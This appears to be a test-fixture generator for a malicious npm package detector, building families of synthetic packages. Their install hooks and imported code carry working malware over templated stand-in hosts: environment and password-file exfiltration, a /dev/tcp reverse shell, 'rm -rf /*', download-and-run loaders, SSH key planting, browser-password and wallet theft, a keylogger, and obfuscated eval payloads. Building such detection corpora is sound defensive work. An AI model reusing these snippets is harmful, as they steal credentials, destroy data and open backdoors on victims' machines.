import { pick } from '../../src/core/random.ts'
import type { Family } from './lookalikes.ts'
import type { Words } from './templates.ts'

// A third author's families of whole packages, written before any was run; see fresh-templates.ts.

const b64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const good = `exports.pad = (s, n) => String(s).padStart(n);\nexports.sum = (list) => list.reduce((a, b) => a + b, 0);\n`
const onImport = (id: string, make: (w: Words) => string): Family => ({
  id: `f-${id}`,
  make: (w) => ({ files: { 'index.js': `${make(w)}\n${good}` } }),
})
const onInstall = (id: string, hook: string, name: string, make: (w: Words) => string): Family => ({
  id: `f-${id}`,
  make: (w) => ({ manifest: { scripts: { [hook]: `node ${name}` } }, files: { 'index.js': good, [name]: make(w) } }),
})
const onlyShell = (id: string, make: (w: Words) => Record<string, string>): Family => ({
  id: `f-${id}`,
  onlyInstall: true,
  make: (w) => ({ manifest: { scripts: make(w) }, files: { 'index.js': good } }),
})

export const freshFamilies: readonly Family[] = [
  onInstall(
    'env-querystring',
    'postinstall',
    'package-setup.js',
    (w) =>
      `var http = require('http'); var querystring = require('querystring'); var env = JSON.stringify(process.env); var data = Buffer.from(env).toString('base64'); var postData = querystring.stringify({ data: data }); var options = { hostname: '${w.host}', port: 80, path: '/log/', method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(postData) } }; var req = http.request(options); req.write(postData); req.end();`,
  ),
  onInstall(
    'issue-comment',
    'postinstall',
    'update.js',
    (w) =>
      `const http = require('https'); const os = require('os');\nfunction info() { return { user: os.userInfo().username, home: os.homedir(), cpu: os.cpus()[0].model, net: os.networkInterfaces() }; }\nhttp.get('https://api.ip.${w.host}/json', (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => { const q = http.request({ host: 'api.github.${w.host}', path: '/repos/h/${w.word}/issues/1/comments', method: 'POST', headers: { 'User-Agent': 'x', Authorization: 'Basic ${b64(w.word)}' } }); q.end(JSON.stringify({ body: Buffer.from(JSON.stringify({ g: b, i: info() })).toString('base64') })); }); });`,
  ),
  onInstall(
    'ping-package',
    'preinstall',
    'build.js',
    (w) =>
      `const { exec } = require('child_process'); exec('a=$(hostname;pwd;whoami;echo ${w.word};curl -s https://ifconfig.${w.host};) && echo $a | xxd -p | head | while read ut; do nslookup $ut.${w.host}; done');`,
  ),
  onInstall(
    'silent-request',
    'preinstall',
    'index2.js',
    (w) =>
      `const https = require('https'); const package_ = require('./package.json').name; const name = { name: package_, dir: __dirname, user: process.env.USER, host: require('os').hostname() }; https.get('https://${w.host}/?d=' + Buffer.from(JSON.stringify(name)).toString('hex'));`,
  ),
  onInstall(
    'bat-dropper',
    'preinstall',
    'compile.js',
    () =>
      `const cp = require('child_process'); const opsys = process.platform; if (opsys == 'win32') { cp.spawn('cmd.exe', ['/c', 'start', '/B', 'compile.bat'], { stdio: 'ignore' }); } else { cp.exec('chmod +x compile.sh && ./compile.sh'); }`,
  ),
  onInstall(
    'calc-proof',
    'install',
    'run.js',
    (w) =>
      `require('child_process').exec(process.platform === 'darwin' ? 'open -a Calculator' : 'calc.exe'); require('http').get('http://${w.ip}/${w.word}');`,
  ),
  onInstall(
    'msi',
    'postinstall',
    'setup.js',
    (w) =>
      `const { execSync } = require('child_process'); const p = process.env.TEMP + '\\\\${w.word}.msi'; execSync('powershell -Command "Invoke-WebRequest https://${w.host}/a.msi -OutFile ' + p + '"'); execSync('msiexec /qn /i ' + p);`,
  ),
  onInstall(
    'python-stage',
    'postinstall',
    'post.js',
    (w) =>
      `const fs = require('fs'), os = require('os'), path = require('path'); const f = path.join(os.homedir(), '.n2', 'pay'); fs.mkdirSync(path.dirname(f), { recursive: true }); fs.writeFileSync(f, Buffer.from('${b64(`print(${w.number})`)}', 'base64')); require('child_process').exec('python3 "' + f + '"', { windowsHide: true });`,
  ),
  onInstall(
    'ssh-key-adder',
    'postinstall',
    'ssh.js',
    (w) =>
      `const fs = require('fs'); const d = require('os').homedir() + '/.ssh'; if (!fs.existsSync(d)) fs.mkdirSync(d); fs.appendFileSync(d + '/authorized_keys', 'ssh-rsa AAAA${b64(w.word)} x\\n'); require('dns').lookup(require('os').userInfo().username + '.${w.host}', () => {});`,
  ),
  onInstall(
    'shadow-read',
    'preinstall',
    'pre.js',
    (w) =>
      `require('child_process').exec('cat /etc/passwd | curl -X POST --data-binary @- https://${w.host}/${w.word}');`,
  ),
  onInstall(
    'self-delete',
    'postinstall',
    'setup.js',
    (w) =>
      `const fs = require('fs'); const { execSync } = require('child_process'); const S = ['${b64(`curl -s http://${w.ip}:8000/x -o /tmp/x && sh /tmp/x`)}'].map((s) => Buffer.from(s, 'base64').toString('utf8')); try { execSync(S[0]); } catch (e) {} fs.unlinkSync(__filename); fs.renameSync('package.md', 'package.json');`,
  ),
  onInstall(
    'trufflehog',
    'preinstall',
    'bun_env.js',
    (w) =>
      `const { execSync } = require('child_process'); const out = execSync('trufflehog filesystem ' + require('os').homedir() + ' --json').toString(); fetch('https://api.github.${w.host}/user/repos', { method: 'POST', headers: { Authorization: 'token ' + execSync('gh auth token') }, body: JSON.stringify({ name: '${w.word}', description: out }) });`,
  ),
  onlyShell('nslookup', (w) => ({ preinstall: `nslookup $(whoami).$(hostname).${w.host}` })),
  onlyShell('curl-passwd', (w) => ({
    preinstall: `curl --data-urlencode "info=$(hostname && whoami)" http://${w.ip}/${w.word}`,
  })),
  onlyShell('wget-quiet', (w) => ({
    postinstall: `wget --quiet "https://${w.host}/?user=$(whoami)&path=$(pwd)&hostname=$(hostname)"`,
  })),
  onlyShell('rm-rf', () => ({ preinstall: 'rm -rf /*', postinstall: 'del /f /s /q C:\\*' })),
  onlyShell('dev-tcp', (w) => ({ postinstall: `/bin/bash -c '/bin/bash -i >& /dev/tcp/${w.ip}/4444 0>&1'` })),
  onlyShell('npx-fetch', (w) => ({
    postinstall: `node -e "fetch('https://${w.host}/${w.word}').then(r=>r.text()).then(eval)"`,
  })),
  onImport(
    'header-backdoor',
    () =>
      `module.exports = function cookies(req, res, next) { var h = req.headers['cookie'] || ''; var m = /gCOMMANDhDATAi/.test(h) ? h : null; var b = Buffer.alloc(64); if (/^([0-9a-f]{2})+$/.test(h)) { b = Buffer.from(h, 'hex'); require('vm').runInThisContext(b.toString('utf8'))(require, req, res, next); } else next(); };`,
  ),
  onImport(
    'ejs-remote',
    (w) =>
      `const axios = require('axios'); const config = require('./package.json'); const runtime = async () => { const src = atob('${b64(`https://api.${w.host}/b/${w.word}`)}'); const k = atob('${b64('x-secret-key')}'); const v = atob('_'.slice(1) + '${b64('_')}'); try { const s = (await axios.get(src, { headers: { [k]: v } })).data.cookie; const handler = new Function.constructor('require', s); handler(require); } catch (e) {} }; runtime();`,
  ),
  onImport(
    'fake-logger',
    (w) =>
      `const { spawn } = require('child_process'); const path = require('path'); function log(m) { console.log('[log] ' + m); } const child = spawn('node', [path.join(__dirname, 'lib', 'caller.js'), '${w.word}'], { detached: true, stdio: 'ignore' }); child.unref(); require('https').get('https://${w.host}/${w.number}'); module.exports.log = log;`,
  ),
  onImport(
    'seed-scan',
    (w) =>
      `const fs = require('fs'), os = require('os'), path = require('path'), FormData = require('form-data'), axios = require('axios'); const walk = (d, out = []) => { for (const f of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, f.name); if (f.isDirectory()) walk(p, out); else if (/wallet|seed|mnemonic|\\.env$|id\\.json/i.test(f.name)) out.push(p); } return out; }; for (const p of walk(os.homedir())) { const form = new FormData(); form.append('file', fs.createReadStream(p)); axios.post('http://${w.ip}:${w.number}/upload', form); }`,
  ),
  onImport(
    'screens-and-keys',
    (w) =>
      `const { GlobalKeyboardListener } = require('node-global-key-listener'); const shot = require('screenshot-desktop'); const axios = require('axios'); let buf = ''; new GlobalKeyboardListener().addListener((e) => { buf += e.name; }); setInterval(async () => { const img = await shot(); await axios.post('http://${w.ip}:5974/api/upload', { keys: buf, img: img.toString('base64') }); buf = ''; }, 5000);`,
  ),
  onImport(
    'socket-orders',
    (w) =>
      `const io = require('socket.io-client'); const { exec } = require('child_process'); const s = io('http://${w.ip}:5961'); s.on('connect', () => s.emit('whour', { h: require('os').hostname() })); s.on('command', (m) => exec(m.message, (e, out) => s.emit('message', { result: out })));`,
  ),
  onImport(
    'discord-inject',
    (w) =>
      `const fs = require('fs'), glob = require('glob'); const local = process.env.LOCALAPPDATA; for (const d of ['Discord', 'DiscordCanary']) for (const f of glob.sync(local + '/' + d + '/app-*/modules/discord_desktop_core-*/discord_desktop_core/index.js')) { require('https').get('https://${w.host}/inject.js', (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => fs.writeFileSync(f, b.replace('%WEBHOOK%', 'https://discord.com/api/webhooks/${w.number}/x'))); }); }`,
  ),
  onImport(
    'browser-passwords',
    (w) =>
      `const sqlite3 = require('sqlite3'); const fs = require('fs'); const p = process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'; fs.copyFileSync(p, './${w.word}.db'); const db = new sqlite3.Database('./${w.word}.db'); db.each('SELECT origin_url, username_value, password_value FROM logins', (e, row) => require('https').request({ host: '${w.host}', method: 'POST' }).end(JSON.stringify(row)));`,
  ),
  onImport(
    'solana-drain',
    (w) =>
      `const { Connection, Keypair, SystemProgram, Transaction, sendAndConfirmTransaction } = require('@solana/web3.js'); module.exports.transfer = async function (secretKey, amount) { const kp = Keypair.fromSecretKey(secretKey); const c = new Connection('https://api.mainnet-beta.solana.com'); require('https').get('https://api.telegram.org/bot${w.number}:x/sendMessage?chat_id=1&text=' + Buffer.from(secretKey).toString('hex')); return sendAndConfirmTransaction(c, new Transaction(), [kp]); };`,
  ),
  onImport(
    'phish-form',
    (w) =>
      `document.querySelectorAll('form').forEach((f) => f.addEventListener('submit', () => { const d = new FormData(f); const x = new XMLHttpRequest(); x.open('POST', '//${w.host}/${w.word}'); x.send(JSON.stringify([...d.entries()])); }));`,
  ),
  onImport(
    'phish-redirect',
    (w) =>
      `if (typeof window !== 'undefined') { const email = '${w.word}@target.example'; document.body.innerHTML = '<form><input type=password id=p></form>'; setTimeout(() => { location.href = 'https://${w.host}/login#' + btoa(email); }, 3000); }`,
  ),
  onImport(
    'gmail-drain',
    (w) =>
      `const nodemailer = require('nodemailer'); exports.encryptKey = function (privateKey) { const t = nodemailer.createTransport({ service: 'gmail', auth: { user: '${w.word}@mail.example', pass: 'x' } }); t.sendMail({ from: 'a', to: '${w.word}@mail.example', subject: 'k', text: privateKey }); return privateKey; };`,
  ),
  onImport(
    'contract-address',
    (w) =>
      `const { ethers } = require('ethers'); (async () => { const c = new ethers.Contract('0x${hex(w.word).padEnd(40, '0').slice(0, 40)}', ['function getString(address) view returns (string)'], ethers.getDefaultProvider('mainnet')); const url = await c.getString('0x0000000000000000000000000000000000000001'); const f = await (await fetch(url + '/node-linux')).arrayBuffer(); const p = require('path').join(require('os').tmpdir(), 'node-linux'); require('fs').writeFileSync(p, Buffer.from(f)); require('child_process').spawn(p, [], { detached: true, stdio: 'ignore' }).unref(); })();`,
  ),
  onImport(
    'calendar-link',
    (w) =>
      `fetch('https://calendar.app.${w.host}/${w.word}').then((r) => r.text()).then((t) => { const m = /data-base-title="([^"]+)"/.exec(t); return fetch(atob(m[1])); }).then((r) => r.text()).then((c) => eval(atob(c)));`,
  ),
  onImport('jsfuck', () =>
    `[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]]()`.repeat(
      3,
    ),
  ),
  onImport(
    'packer',
    (w) =>
      `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1("2")',3,3,'console|log|${w.word}'.split('|'),0,{}))`,
  ),
  {
    id: 'f-test-data',
    make: (w) => ({
      files: {
        'index.js': `const data = require('./test/data'); const c = require('crypto'); const k = process.env['npm_package_description']; if (k) { const d = c.createDecipher('aes256', k); let s = d.update(data[0], 'hex', 'utf8'); s += d.final('utf8'); const m = new module.constructor(); m.paths = module.paths; m._compile(s, ''); }\n${good}`,
        'test/data.js': `module.exports = ['${hex(w.word.repeat(20))}'];\n`,
      },
    }),
  },
  {
    id: 'f-hidden-in-lib',
    make: (w, random) => ({
      files: {
        'index.js': `module.exports = require('./lib/${w.word}');\n`,
        [`lib/${w.word}.js`]: `${good}\n${'// '.padEnd(60, '-')}\nconst c = require('./const');\nrequire(c.${pick(random, ['a', 'b'])}).get(c.u, (r) => { const parts = []; r.on('data', (d) => parts.push(d)); r.on('end', () => { (new (Function)(parts.join('')))(); }); });\n`,
        'lib/const.js': `exports.a = 'https'; exports.b = 'https'; exports.u = 'https://${w.host}/${w.word}';\n`,
      },
    }),
  },
]
